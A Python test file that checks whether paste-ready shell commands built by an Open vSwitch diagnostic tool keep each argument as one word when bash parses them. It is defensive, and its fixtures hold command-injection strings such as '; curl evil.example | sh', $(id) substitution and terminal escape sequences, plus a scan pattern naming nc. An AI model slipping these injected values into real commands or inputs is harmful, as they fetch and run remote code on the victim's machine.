"""Commands to paste, read back by a real shell."""

import pathlib
import re
import subprocess

import pytest

from ovs_pathfinder import words
from ovs_pathfinder.inspection import storage
from ovs_pathfinder.report import environment
from ovs_pathfinder.vswitch import trace

ROOT = pathlib.Path(__file__).resolve().parents[2]
HOSTILE = (
    "ovs-pathfinder/1; curl evil.example | sh #",
    "ovs-pathfinder/1\ncurl evil.example | sh",
    "a'b\"c $(id) `id` \\",
    "\x03\x1b]0;title\x07\r\t",
    "\u202e\u2066 name",
    "net with blanks",
    "",
)


def read_by_bash(command: str) -> list[str]:
    """Return the words that bash makes of a command."""
    script = f"set -- {command}\nprintf '%s\\0' \"$@\""
    done = subprocess.run(["/bin/bash", "-c", script], capture_output=True, timeout=10, check=True)
    return done.stdout.decode().split("\0")[:-1]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_each_word_of_a_command_to_paste_stays_one_word(hostile: str) -> None:
    pasted = words.pasted("juju", "run", hostile, "probe-path", f"run={hostile}")

    assert pasted.isprintable()
    assert read_by_bash(pasted) == ["juju", "run", hostile, "probe-path", f"run={hostile}"]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_command_is_wrapped_between_its_words_alone(hostile: str) -> None:
    pasted = words.pasted("juju", "run", *[hostile] * 12)

    wrapped = environment.environment("text").from_string("{{ command | pasted(4) }}").render(command=pasted)

    assert read_by_bash(wrapped) == ["juju", "run", *[hostile] * 12]


def test_a_traced_flow_and_a_file_s_name_are_one_word_each() -> None:
    flow = "in_port=2,icmp6; curl evil.example | sh"
    file = pathlib.Path("/var/lib/ovs-pathfinder/a b'.pcap")

    assert read_by_bash(trace.command("br int", flow, ["trk,est"]))[-2:] == ["br int", flow]
    fetched, target = storage.fetch("ovs-pathfinder/0", file).split(" > ")
    assert (read_by_bash(fetched)[-1], read_by_bash(target)) == (str(file), [file.name])


def test_no_command_to_paste_is_put_together_by_hand() -> None:
    tools = (
        "juju (run|ssh)",
        "ovs-(appctl|ofctl|vsctl) [a-z]+[/-][a-z]+",
        "openstack [a-z]+ [a-z]+",
        "(nc|ping|tcpdump) -",
    )
    by_hand = re.compile(rf'f"[^"]*\b({"|".join(tools)})[^"`]*\{{')
    sources = [*(ROOT / "lib").rglob("*.py"), *(ROOT / "src").rglob("*.py")]

    assert [f"{file.name}: {found[0]}" for file in sources for found in by_hand.finditer(file.read_text())] == []
